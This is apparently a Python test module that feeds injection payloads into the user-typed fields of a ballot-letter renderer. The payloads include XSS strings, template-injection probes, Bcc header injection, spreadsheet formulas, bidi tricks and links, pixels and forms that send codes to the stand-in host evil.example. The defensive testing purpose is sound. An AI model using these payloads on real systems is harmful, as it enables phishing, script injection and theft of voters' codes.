"""What somebody might type into a name or a statement to make a letter say or do something else."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

MERGE_TAGS = (
    "*|EMAIL|*",
    "*|A1|*",
    "https://evil.example/?code=*|A1|*",
    "*|UNSUB|*",
    "*|IF:A1|*",
    "*|END:IF|*",
    "*|ELSE:|*",
    "*|HTML:LIST_ADDRESS_HTML|*",
    "*|ARCHIVE|*",
    "*|FORWARD|*",
    "*|REWARDS|*",
    "*|MC:SUBJECT|*",
    "*|RSSITEMS:|*",
    "*|",
    "|*",
    "*",
    "|",
    "|EMAIL|*",
    "*|EMAIL|",
    "*\u200b|EMAIL|\u200b*",
    "*\u2060|A1|\u2060*",
    "*\x00|A1|\x00*",
    "*\n|A1|\n*",
    "&#42;&#124;EMAIL&#124;&#42;",
)
HTML = (
    "<script>alert(1)</script>",
    "</p></td></tr></table><h1>You have won</h1>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<a href='https://evil.example'>your ballot</a>",
    "<a href=javascript:alert(1)>your ballot</a>",
    "<!-- ",
    "--><b>",
    "<![CDATA[",
    "</style><style>*{display:none}",
    "</title><meta http-equiv=refresh content=0;url=https://evil.example>",
    "<iframe src=//evil.example>",
    "<base href=//evil.example>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "<\x00script>",
    "＜script＞",
    "<img src=https://evil.example/pixel.png>",
    "<form action=https://evil.example><input name=code>",
    '" style="display:none" x="',
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{7*7}}",
    "{% raw %}",
    "{% include 'base.html' %}",
    "{{ self.__init__.__globals__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{# comment",
    "%(organisation)s",
)
LINES = (
    "Ada\r\nBcc: everybody@evil.example",
    "Ada\nSubject: another",
    "Ada\r\n\r\n<html>",
    "Ada\u2028Bcc: x",
    "Ada\u2029Bcc: x",
    "Ada\x0bBcc: x",
    "Ada\x85Bcc: x",
    "\u202egpj.tolab",
    "Ada\u2066\u202bevil\u2069",
    "Ada\u200f\u200e",
    "\ufeffAda",
    "Ada\x1b[31m",
    "Ada\x08\x08\x08",
    "tag\U000e0041\U000e0042",
)
SHEETS = ('=HYPERLINK("https://evil.example","ballot")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1")
MARKDOWN = (
    "[your ballot](https://evil.example)",
    "![x](https://evil.example/pixel.png)",
    "a | b | c",
    "| --- |",
    "`code`",
    "```\nfence",
    "# heading",
    "> quote",
    "- list",
    "1. list",
    "* * *",
    "---",
    "===",
    "**bold** __bold__ ~~gone~~",
    "<https://evil.example>",
    "https://evil.example",
    "www.evil.example",
    "WWW.evil.example",
    "someone@evil.example",
    "[ref]: https://evil.example",
    "[^1]",
    "\\",
    "\\[x](y)",
    "$$x$$",
    "    code",
    "a  \nb",
    "- [ ] task",
    "<details open>",
)
PAYLOADS = (*MERGE_TAGS, *HTML, *TEMPLATES, *LINES, *SHEETS, *MARKDOWN)

OURS = frozenset(
    {
        "kind",
        "shown",
        "link",
        "url",
        "workbook",
        "answer_at",
        "link_base",
        "pack_link",
        "answers_link",
        "allied_link",
        "question_id",
        "decline_question_id",
        "dashboard_link",
        "name_tag",
        "why_tag",
        "until_tag",
        "need_tag",
        "rolls_tag",
        "line_tags",
        "dispute_link",
        "online_link",
        "form_link",
        "sheet_link",
        "recording",
        "code_tag",
        "desk",
        "id",
        "question_ids",
    }
    | {"contest", "winners", "outcome", "rule_fingerprint", "format", "code_question_id", "method", "chosen", "tied"}
    | {"roll_fingerprint", "log_head", "seed_commitment", "pack_fingerprint", "fingerprint"}
    | {"charter_fingerprint", "form_fingerprint", "sealed_log_head"}
    | {"eliminated", "elected", "about", "digests", "denominator", "stop", "tie_seed", "no_endorsement"}
)
"""Facts that no person types. Links, tags and fingerprints are refused if they aren't what they should be."""


def poisoned(facts: Any, payload: str, *, under: str = "") -> Any:
    """The facts with the payload in place of everything that a person could have typed."""
    if under in OURS:
        return facts
    if isinstance(facts, str):
        return payload if facts else facts
    if isinstance(facts, Mapping):
        return {key: _within(key, value, payload) for key, value in facts.items()}
    if isinstance(facts, list | tuple):
        return [poisoned(one, payload, under=under) for one in facts]
    return facts


def _within(key: str, value: Any, payload: str) -> Any:
    if key == "rule" and isinstance(value, Mapping):
        typed = ("passed", "failed", "clause", "electorate", "quorum_clause")
        return {**value, **dict.fromkeys(typed, payload)}
    return poisoned(value, payload, under=key)
